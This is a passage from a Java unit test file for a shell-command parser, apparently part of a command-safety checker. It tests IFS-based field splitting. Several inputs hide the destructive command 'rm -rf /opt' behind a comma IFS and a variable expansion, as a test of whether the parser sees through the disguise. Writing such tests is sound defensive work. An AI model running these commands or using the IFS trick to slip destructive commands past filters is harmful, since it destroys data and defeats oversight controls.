        assertEquals("direct: echo [rm] [-rf] [/opt]", render(only(parse("IFS=,; c=rm,-rf,/opt; echo $c"), "echo")));
        assertEquals("direct: echo [rm,-rf,/opt]", render(only(parse("IFS=,; c=rm,-rf,/opt; echo \"$c\""), "echo")));
        // Blanks no longer split once IFS holds none; unset IFS splits as the default does; an empty one never splits.
        assertEquals("rm -rf /opt", parse("IFS=,; c='rm -rf /opt'; $c").commands().get(2).nameWord().value());
        assertEquals("direct: rm [-rf] [/opt]", render(only(parse("IFS=,; unset IFS; c='rm -rf /opt'; $c"), "rm")));
        assertEquals("rm -rf /opt", parse("IFS=; c='rm -rf /opt'; $c").commands().get(2).nameWord().value());
        // A prefix assignment (IFS=, read ...) changes IFS for that command only.
        assertEquals("direct: echo [a] [b]", render(only(parse("IFS=, read -r x; c='a b'; echo $c"), "echo")));
    }

    @Test
    void fieldSplittingFollowsPosix() {
        assertEquals(List.of("a", "", "b"), Normalizer.fields("a,,b", ","));
        assertEquals(List.of("", "a"), Normalizer.fields(",a,", ","));
        assertEquals(List.of("a", "b", "c"), Normalizer.fields("  a , b\tc  ", " \t\n,"));
        assertEquals(List.of("a", "", "b"), Normalizer.fields("a , , b", " ,"));
        assertEquals(List.of("a b"), Normalizer.fields("a b", ""));
        assertEquals(List.of(), Normalizer.fields("   ", " "));
    }

    private static String args(SimpleCommand c) {
        String r = render(c);
        return r.substring(r.indexOf(c.name()) + c.name().length()).strip();
    }
}
